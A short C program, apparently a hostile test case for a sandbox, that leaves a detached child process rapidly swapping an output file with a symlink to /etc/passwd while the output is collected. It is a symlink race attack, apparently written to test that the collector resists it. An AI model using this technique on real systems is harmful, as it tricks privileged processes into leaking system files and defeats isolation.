// Leaves a child behind that exchanges the file for a link, as fast as it can, while the output is being taken.
#include "hostile.h"

// With an argument it does not end by itself.
int main(int count, char **arguments) {
    (void)arguments;
    int file = open("/box/out/program", O_WRONLY | O_CREAT | O_EXCL, 0700);
    if (write(file, "good", 4) != 4 || symlink("/etc/passwd", "/box/out/.link") != 0) return 1;
    if (fork() == 0) {
        setsid();
        for (;;) syscall(SYS_renameat2, AT_FDCWD, "/box/out/program", AT_FDCWD, "/box/out/.link", 2);
    }
    while (count > 1) pause();
    rest(20);
    say("left\n");
}
